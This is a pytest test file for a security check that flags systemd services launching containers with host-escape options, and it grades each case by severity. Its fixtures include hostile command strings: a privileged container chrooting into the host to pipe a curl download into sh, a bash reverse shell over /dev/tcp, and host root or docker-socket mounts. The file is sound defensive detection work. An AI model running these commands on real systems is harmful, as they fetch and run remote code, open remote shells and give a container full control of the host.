# ruff: noqa: E501 - a case stands on one line
from __future__ import annotations

import pytest

from pratique.checks.containers.item_starts_open import CHECK
from pratique.inventory.persistence import Persistence
from pratique.model import Severity
from pratique.store.tables import Tables


def signs(command):
    row = Persistence(
        path="/etc/systemd/system/x.service", line=3, kind="systemd-service", name="x", username="root",
        occasion="at boot", command=command, target="/usr/bin/docker", owner="", target_owner="docker-ce",
        standing="unowned", target_standing="as shipped", explained=False, technique="T1543.002",
    )  # fmt: skip
    with Tables.of([row], CHECK.reads) as tables:
        return list(CHECK.find(tables))


@pytest.mark.parametrize(
    ("command", "severity"),
    [
        ("/usr/bin/docker run --rm --privileged --pid=host -v /:/host alpine chroot /host sh -c 'curl http://192.0.2.1/u | sh'", Severity.HIGH),
        ("docker run alpine sh -c 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1'", Severity.HIGH),
        ("sh -c 'docker run -d --privileged -v /:/mnt debian sleep infinity'", Severity.HIGH),
        ("podman run -v /:/mnt:rw alpine /run", Severity.MEDIUM),
        ("docker run --mount type=bind,source=/etc,target=/x alpine /run", Severity.MEDIUM),
        ("docker run -v /var/run/docker.sock:/s alpine sh", Severity.MEDIUM),
        ("docker run --pid host -v /:/host:ro,rslave prom/node-exporter --path.rootfs=/host", Severity.LOW),
        ("docker run -v /var/run/docker.sock:/var/run/docker.sock portainer/portainer-ce", Severity.LOW),
    ],
)  # fmt: skip
def test_points_at(command, severity):
    (sign,) = signs(command)
    assert (sign.severity or CHECK.severity) is severity
    assert str(sign.places[0]) == "/etc/systemd/system/x.service:3"


@pytest.mark.parametrize(
    "command",
    [
        "/usr/bin/docker run --rm -p 80:80 -v /srv/site:/usr/share/nginx/html:ro nginx",
        "docker start -a web",
        "docker compose run web --privileged",
        "logrotate run docker create",
        "docker exec web run --privileged x",
    ],
)
def test_leaves_alone(command):
    assert signs(command) == []
